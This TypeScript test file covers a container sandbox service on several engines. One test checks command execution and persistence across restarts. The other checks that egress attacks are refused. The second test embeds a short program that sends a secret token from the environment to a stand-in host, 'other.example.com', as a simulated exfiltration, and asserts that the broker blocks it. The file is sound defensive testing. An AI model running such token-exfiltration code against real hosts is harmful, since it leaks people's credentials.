import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Engine } from '../../src/sandbox/docker/engine.ts';
import { inside, tryWaysOut } from '../egress/inside-world.ts';
import { brokerSandbox } from '../support/broker-sandbox.ts';
import { workshop } from '../support/scenario.ts';
import { startService } from '../support/service.ts';
import { until } from '../support/until.ts';
import { checkCells, wayOut } from './attack-table.ts';
import { IMAGE, type TestEngine } from './engines.ts';
import type { Fixture } from './fixture.ts';

export interface EngineUnderTest {
  /** As a column of the table of the ways out. */
  label: 'Docker, runc' | 'Docker, gVisor' | 'Podman, runc';
  runtime: string | null;
  engine: () => TestEngine;
  make: () => Fixture;
  skip: string | false;
}

const value = 'tok_Zq8+/w9R=x71';
const names = ['api.example.com', 'other.example.com'];
const secret = { key: 'TOKEN', hosts: ['api.example.com'], value: Buffer.from(value) };

/** What a program tells of a host that it sends the secret to: its status and its answer. */
const asksBoth = `for (const name of ['api', 'other'])
  await fetch('http' + (name === 'api' ? 's' : '') + '://' + name + '.example.com/', {
    headers: { authorization: 'Bearer ' + process.env.TOKEN }, ...(name === 'other' && { method: 'POST', body: process.env.TOKEN }),
  }).then(async (response) => console.log(name, response.status, await response.text()),
    (error) => console.log(name, 'failed', String(error.cause?.cause ?? error.cause)));`;

/** The whole service on the engine, and the attacks on the way out from there. */
export function engineService({ label, runtime, engine, make, skip }: EngineUnderTest): void {
  test(
    `the whole service answers, runs commands and keeps files with containers of ${label}, also when it is killed`,
    {
      skip,
    },
    async (t) => {
      const service = await startService({
        env: {
          BERTH_SANDBOX: 'docker',
          BERTH_DOCKER_SOCKET: engine().socket,
          BERTH_DOCKER_IMAGE: IMAGE,
          ...(runtime !== null && { BERTH_DOCKER_RUNTIME: runtime }),
          BERTH_DETACH: 'always',
          BERTH_DRAIN_SECONDS: '0',
          BERTH_LEASE_SECONDS: '2',
        },
      });
      t.after(() => service.end());
      const shop = await workshop(service);
      t.after(() => shop.close());
      const agent = await shop.agent({ 'AGENTS.md': 'x\n' });
      const at = `/sandbox/${agent.id}`;
      const call = async (method: string, path: string, body?: unknown) => {
        const reply = await service.api(method, `${at}${path}`, body);
        assert.equal(reply.status, 200, reply.text);
        return reply.body;
      };
      const sh = async (script: string) =>
        (await call('POST', '/exec', { command: ['sh', '-c', script] })).stdout;

      assert.equal((await agent.say('say: from a container')).message.content, 'from a container');
      assert.equal(await sh('echo kept > file; echo gone > /tmp/file; id -un; pwd'), 'agent\n/workspace\n');
      assert.match((await agent.say('run: cat file')).message.content, /kept/);
      const stopped = (await call('POST', '/stop')).sandbox;
      assert.equal(stopped.state, 'stopped');
      const { sandbox } = await call('POST', '/start');
      assert.deepEqual([sandbox.state, sandbox.sandboxId === stopped.sandboxId], ['running', false]);
      assert.equal(await sh('cat file; ls /tmp'), 'kept\n');

      const { runId } = await agent.ask(
        'run: echo once >> times; until [ -e go ]; do sleep 0.1; done; wc -l < times',
      );
      await until(
        'the command has begun',
        async () => (await sh('cat times 2>/dev/null; true')) === 'once\n',
      );
      await service.kill9();
      await service.restart();
      assert.equal((await call('GET', '')).sandbox.sandboxId, sandbox.sandboxId, 'it is the same one');
      assert.equal(await sh('touch go; cat file'), 'kept\n');
      await until(
        'the turn has ended',
        async () => (await service.api('GET', `/v1/runs/${runId}`)).body.run.status === 'completed',
      );
      assert.equal(await sh('cat times'), 'once\n');
      assert.match((await service.api('GET', '/metrics')).text, /^berth_sandboxes 1$/m);
      assert.equal((await call('POST', '/kill')).sandbox.state, 'stopped');
      assert.deepEqual(await containers(engine()), []);

      // What is left of one that nobody takes up again.
      await call('POST', '/start');
      assert.equal((await containers(engine())).length, 1);
      await service.stop('SIGINT');
      assert.deepEqual(await containers(engine()), []);
    },
  );

  test(
    `the attacks on the way out are refused from containers of ${label}, as the docs say`,
    { skip },
    async (t) => {
      const made = await inside(t, 'proxy', [], make());
      assert.ok(made, 'there are sandboxes');
      await tryWaysOut(t, made, 'proxy', ['node']);

      const { run, arrived, refusals, world } = await brokerSandbox(t, names, [secret], 'proxy', make());
      world.answer = (message, response) => void response.end(`told ${message.headers.authorization}`);
      const { stdout, stderr, exit, env } = await run(`node --input-type=module -e "$ASKS"`, {
        ASKS: asksBoth,
      });
      const told = `${stdout}${stderr}${JSON.stringify(exit)}`;
      const placeholder = env['TOKEN'] ?? '';
      assert.deepEqual(
        arrived.map(({ host, authorization }) => [host, authorization]),
        [['api.example.com', `Bearer ${value}`]],
        told,
      );
      assert.match(placeholder, /^berth_ph_/);
      assert.ok(stdout.includes(`api 200 told Bearer ${placeholder}\n`), told);
      assert.match(stdout, /^other 403 /m);
      assert.equal((stdout + stderr).includes(value), false);
      assert.deepEqual(
        refusals.map(({ reason, host }) => [reason, host]),
        [['placeholder_to_wrong_host', 'other.example.com']],
      );
      checkCells(wayOut, label, { 33: 'blocked', 34: 'blocked' });
    },
  );
}

/** Names of all that there are, running or not. */
async function containers({ socket }: TestEngine): Promise<string[]> {
  const all = (await new Engine(socket).call('GET', '/containers/json?all=1')) as { Names: string[] }[];
  // Other tests on the same engine have theirs.
  return all.flatMap(({ Names }) => Names).filter((name) => !name.includes('berth-test-'));
}
